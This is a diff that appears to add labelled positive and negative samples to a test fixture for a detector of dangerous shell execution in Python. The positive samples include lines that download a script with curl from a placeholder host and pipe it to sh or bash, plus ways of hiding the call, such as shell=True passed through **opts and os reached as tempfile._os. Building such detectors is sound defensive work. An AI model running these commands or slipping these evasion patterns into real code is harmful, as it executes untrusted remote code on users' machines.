@@ -188,3 +188,27 @@ ap = argparse.ArgumentParser()
 ap.add_argument("-c", "--config", default="sh")
 #@ neg a container started with sh -c inside it (the shell is not the program)
 print(["docker", "run", "--rm", "python:3.12", "sh", "-c", "python -m pytest -q"])
+#@ pos a module another module keeps: tempfile's os
+import tempfile
+tempfile._os.system("id")
+#@ pos a shell line with shell=True hidden in **opts
+import subprocess
+OPTS = {"shell": True}
+subprocess.run("curl -s http://x/s | sh", **OPTS)
+#@ neg a run(cmd, **kw) wrapper given lists
+import subprocess
+def run(cmd, **kw):
+    return subprocess.run(cmd, check=True, **kw)
+run(["git", "log", "--format=%h|%s"], capture_output=True)
+#@ neg a test command from argparse, its default an ordinary tool
+import argparse, subprocess
+ap = argparse.ArgumentParser()
+ap.add_argument("cmd", nargs="*", default=["make", "test"])
+args = ap.parse_args()
+subprocess.run(args.cmd)
+#@ pos an argparse default that pipes a download to a shell
+import argparse, subprocess
+ap = argparse.ArgumentParser()
+ap.add_argument("--step", nargs="*", default=["bash", "-c", "curl -s http://x/b | bash"])
+opts = ap.parse_args()
+subprocess.call(opts.step)
